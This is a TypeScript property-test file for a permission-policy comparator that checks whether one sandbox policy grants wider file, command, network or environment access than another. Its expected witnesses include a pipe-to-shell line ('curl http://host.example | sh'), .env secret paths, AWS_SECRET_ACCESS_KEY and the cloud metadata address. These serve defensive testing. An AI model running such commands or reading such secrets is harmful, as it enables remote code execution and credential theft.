import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { allows, authorityOf, differenceOf, intersectionOf, unionOf } from "../../src/model/authority.ts";
import type { CommandPattern } from "../../src/model/command.ts";
import { parseCommand } from "../../src/model/command.ts";
import type { FacetChange, Relation } from "../../src/model/compare.ts";
import { compareAuthorities, compareGrants, gates, overall, printEvent } from "../../src/model/compare.ts";
import { Budget, findWord, inside } from "../../src/model/glob/search.ts";
import { excessCommands } from "../../src/model/order/commands.ts";
import { excessPaths } from "../../src/model/order/paths.ts";
import { languageOf, matchPath, parsePath } from "../../src/model/path.ts";
import type { Path, PathPattern } from "../../src/model/path.ts";
import { normalise } from "../../src/model/policy.ts";
import type { Policy } from "../../src/model/policy.ts";
import { region } from "../../src/model/region.ts";
import type { Scope } from "../../src/model/scope.ts";
import { authority, event, grants, pathPattern, runs, scopeOf, valueOf } from "../support/arbitraries.ts";

const seen = { wider: 0, narrower: 0, equal: 0, incomparable: 0, unknown: 0 };

describe("the order of authorities", () => {
  test("what is not wider allows nothing new, and every witness is new", { timeout: 240_000 }, () => {
    fc.assert(
      fc.property(grants, grants, fc.boolean(), fc.array(event, { maxLength: 30 }), (a, b, nested, events) => {
        const base = nested ? unionOf(authorityOf(a), authorityOf(b)) : authorityOf(a);
        const next = authorityOf(b);
        const changes = compareAuthorities(base, next);
        for (const change of changes) {
          seen[change.relation]++;
          if (change.event) expect([allows(next, change.event), allows(base, change.event)]).toEqual([true, false]);
          else expect(["equal", "narrower", "unknown"]).toContain(change.relation);
        }
        const held = new Set(changes.filter((change) => !gates(change.relation)).map((change) => change.facet));
        for (const one of events) if (held.has(one.facet) && allows(next, one)) expect(allows(base, one)).toBe(true);
      }),
      { numRuns: runs(1500) },
    );
    for (const relation of ["wider", "narrower", "equal", "incomparable"] as const) expect(seen[relation]).toBeGreaterThan(runs(100));
    expect(seen.unknown / Object.values(seen).reduce((a, b) => a + b)).toBeLessThan(0.05);
  });

  test("turning a comparison round turns its relation round", () => {
    const turned = { equal: "equal", narrower: "wider", wider: "narrower", incomparable: "incomparable" } as const;
    fc.assert(
      fc.property(authority, authority, (a, b) => {
        const there = compareAuthorities(a, b);
        const back = compareAuthorities(b, a);
        there.forEach(({ relation }, index) => {
          const other = back[index]?.relation;
          if (relation !== "unknown" && other !== "unknown") expect(other).toBe(turned[relation]);
        });
      }),
      { numRuns: runs(500) },
    );
  });

  test("a set's witness follows from the operations on whole authorities", () => {
    fc.assert(
      fc.property(authority, authority, event, (a, b, one) => {
        expect(allows(unionOf(a, b), one)).toBe(allows(a, one) || allows(b, one));
        expect(allows(intersectionOf(a, b), one)).toBe(allows(a, one) && allows(b, one));
        expect(allows(differenceOf(a, b), one)).toBe(allows(a, one) && !allows(b, one));
      }),
      { numRuns: runs(5000) },
    );
  });

  /** A path as it stands on disk, from each root that is bound above it. */
  const bindings = [
    { $WORKSPACE: ["a"], $HOME: ["a", "b"], $TMP: ["c"] },
    { $WORKSPACE: ["a", "b"], $HOME: ["a"], $TMP: ["a", "ab"] },
    { $WORKSPACE: [], $HOME: ["b"], $TMP: ["b"] },
  ] as const;
  const spellings = (segments: readonly string[], binding: (typeof bindings)[number]): Path[] => [
    { root: "/", segments },
    ...(["$WORKSPACE", "$HOME", "$TMP"] as const).flatMap((root) =>
      binding[root].every((one, index) => segments[index] === one) ? [{ root, segments: segments.slice(binding[root].length) }] : [],
    ),
  ];
  test("it holds whatever folders the roots are bound to", { timeout: 240_000 }, () => {
    const scope = scopeOf(pathPattern);
    const folders = fc.array(fc.constantFrom("a", "b", "ab", "c", ".x"), { maxLength: 4 });
    fc.assert(
      fc.property(scope, scope, fc.array(folders, { maxLength: 12 }), fc.constantFrom(...bindings), (a, b, list, binding) => {
        if (excessPaths(region(a), region(b)) !== null) return;
        const bound = (one: Scope<PathPattern>, where: readonly Path[]): boolean =>
          where.some((place) => one.allow === "any" || one.allow.some((pattern) => matchPath(pattern, place))) &&
          !where.some((place) => one.deny.some((pattern) => matchPath(pattern, place)));
        for (const segments of list) {
          const where = spellings(segments, binding);
          if (bound(b, where)) expect(bound(a, where)).toBe(true);
        }
      }),
      { numRuns: runs(10_000) },
    );
  });
});

describe("answers past the budget", () => {
  const folders = (n: number): string[] => Array.from({ length: n }, (_, i) => `/${"*".repeat(1)}${String.fromCharCode(97 + i)}*`);
  test("folders that cannot be told apart in time end as unknown", () => {
    const of = (cwd: string[]) => region({ allow: [valueOf(parseCommand({ command: "git", args: ["a"], cwd }))], deny: [] });
    expect(excessCommands(of(folders(7)), of([...folders(7), "/b/c"]))).toEqual({ k: "unknown" });
    expect(excessCommands(of(folders(3)), of(folders(3)))).toBeNull();
    // Six independent patterns make 64 kinds of folder (one of them the root itself), which is still asked.
    expect(excessCommands(of(folders(5)), of([...folders(5), "/*f*"]))?.k).toBe("event");
  });
  test("arguments that cannot be told apart in time end as unknown", () => {
    const sets = "[!b]".repeat(24);
    const of = (...args: string[]) =>
      region({ allow: args.map((arg) => valueOf(parseCommand({ command: "git", args: [arg] }))), deny: [] });
    expect(excessCommands(of(`*a${sets}`, `*b${sets}`), of(`*[ab]${sets}`))).toEqual({ k: "unknown" });
  });
  test("a search that is out of budget says so", () => {
    const every = inside(languageOf([valueOf(parsePath("/a/b/c/d"))], "/"));
    expect(findWord("paths", every, new Budget(3))).toEqual({ k: "unknown" });
    expect(findWord("paths", every)).toEqual({ k: "word", segments: ["a", "b", "c", "d"] });
  });
  test("a character outside every plain one is found", () => {
    const plain = "ax b0zA_qk7K\u00e9\u4e00\u{1f600}\u0100\u0101".replace(" ", "");
    const found = excessPaths(
      region({ allow: [valueOf(parsePath(`/[${plain}.]`))], deny: [] }),
      region({ allow: [valueOf(parsePath("/?"))], deny: [] }),
    );
    expect(found?.k === "event" && matchPath(valueOf(parsePath(`/[${plain}.]`)), found.event)).toBe(false);
  });
  test("a command that nobody names", () => {
    const of = (...names: string[]) => region({ allow: names.map((name) => valueOf(parseCommand(name))), deny: [] });
    const any = region<CommandPattern>({ allow: "any", deny: [] });
    expect(excessCommands(of("sh", "rm"), any)).toMatchObject({ event: { command: "sh", shell: true }, sensitive: true });
    const shells = ["sh", "rm", "x-any", "x-anyx"].map((command) => valueOf(parseCommand({ command, args: "any", shell: true })));
    expect(excessCommands(region({ allow: shells, deny: [] }), any)).toMatchObject({ event: { command: "x-anyxx" }, sensitive: false });
    expect(excessCommands(any, of("git"))).toBeNull();
  });
  test("whole policies", () => {
    const one = (relation: Relation): FacetChange => ({ facet: "exec", relation, sensitive: false });
    const of = (...list: Relation[]): Relation => overall(list.map(one));
    expect([
      of(),
      of("equal"),
      of("equal", "wider"),
      of("narrower", "equal"),
      of("wider", "narrower"),
      of("incomparable", "wider"),
      of("unknown", "incomparable"),
    ]).toEqual(["equal", "equal", "wider", "narrower", "incomparable", "incomparable", "unknown"]);
    expect((["equal", "narrower", "wider", "incomparable", "unknown"] as const).map(gates)).toEqual([false, false, true, true, true]);
  });
  test("events in words", () => {
    const cwd = { root: "$WORKSPACE", segments: ["a"] } as const;
    expect(printEvent({ facet: "exec", invocation: { command: "git", args: ["log"], shell: true, cwd } })).toBe(
      "git log (through a shell) (in $WORKSPACE/a)",
    );
    expect(printEvent({ facet: "env.read", name: "A" })).toBe("A");
  });
});

describe("the order of policies", () => {
  const grantsOf = (policy: Policy) => {
    const found = normalise(policy);
    expect(found.problems).toEqual([]);
    return found.grants;
  };
  const cases: [string, Policy, Policy, string, string | undefined][] = [
    [
      "docs to all of the workspace",
      { fs: { write: ["$WORKSPACE/docs/**"] } },
      { fs: { write: ["$WORKSPACE/**"] } },
      "wider",
      "$WORKSPACE/.env",
    ],
    ["all to docs", { fs: { read: ["$WORKSPACE/**"] } }, { fs: { read: ["$WORKSPACE/docs/**"] } }, "narrower", undefined],
    ["respelled", { fs: { read: ["./a/{b,c}"] } }, { fs: { read: ["$WORKSPACE/a/b", "$WORKSPACE/a/c"] } }, "equal", undefined],
    [
      "deny dropped",
      { fs: { read: { allow: ["/srv/**"], deny: ["/srv/secret/**"] } } },
      { fs: { read: ["/srv/**"] } },
      "wider",
      "/srv/secret/.env",
    ],
    [
      "a name that looks like an invented one",
      { net: ["x-any.github.com", "x-any.github.com:*"] },
      { net: ["*.github.com"] },
      "incomparable",
      undefined,
    ],
    ["a folder to run in", { exec: [{ command: "git", args: "any", cwd: ["./a"] }] }, { exec: ["git"] }, "wider", "git"],
    [
      "another folder",
      { exec: [{ command: "git", args: "any", cwd: ["./a"] }] },
      { exec: [{ command: "git", args: "any", cwd: ["./*"] }] },
      "wider",
      "git (in $WORKSPACE/x)",
    ],
    ["a space in a set", { fs: { read: ["/a[! ]b"] } }, { fs: { read: ["/a?b"] } }, "wider", "/a b"],
    ["a set up to the last character", { fs: { read: ["/[!\u{10ffff}]"] } }, { fs: { read: ["/?"] } }, "wider", "/\u{10ffff}"],
    ["another host", { net: ["api.github.com"] }, { net: ["api.github.com", "example.com"] }, "wider", "example.com:443"],
    ["suffix to member", { net: ["*.github.com"] }, { net: ["api.github.com"] }, "narrower", undefined],
    ["two halves of a block", { net: ["10.0.0.0/25", "10.0.0.128/25"] }, { net: ["10.0.0.0/24"] }, "equal", undefined],
    ["port range grows", { net: ["h.example:80-90"] }, { net: ["h.example:80-91"] }, "wider", "h.example:91"],
    ["private network by name only", { net: ["*"] }, { net: ["*", "@metadata"] }, "wider", "169.254.169.254:443"],
    ["env prefix", { env: ["AWS_REGION"] }, { env: ["AWS_*"] }, "wider", "AWS_SECRET_ACCESS_KEY"],
    ["a second command", { exec: ["git"] }, { exec: ["git", "sh"] }, "wider", "sh -c curl http://host.example | sh"],
    ["arguments pinned", { exec: ["rg"] }, { exec: [{ command: "rg", args: ["--json", "--", "**"] }] }, "narrower", undefined],
    [
      "flags after wildcards",
      { exec: [{ command: "rg", args: ["**"] }] },
      { exec: [{ command: "rg", args: ["{flags}", "**"] }] },
      "wider",
      "rg -",
    ],
    ["incomparable", { fs: { read: ["/a/**"] } }, { fs: { read: ["/b/**"] } }, "incomparable", "/b/.env"],
    ["everything covers the workspace", { fs: { read: ["/**"] } }, { fs: { read: ["$WORKSPACE/x"] } }, "narrower", undefined],
    [
      "shell added",
      { exec: [{ command: "git", args: "any" }] },
      { exec: [{ command: "git", args: "any", shell: true }] },
      "wider",
      undefined,
    ],
  ];
  test.each(cases)("%s", (_name, a, b, relation, witness) => {
    const changes = compareGrants(grantsOf(a), grantsOf(b));
    expect(overall(changes)).toBe(relation);
    if (witness !== undefined) expect(changes.map((change) => change.witness)).toContain(witness);
  });
});
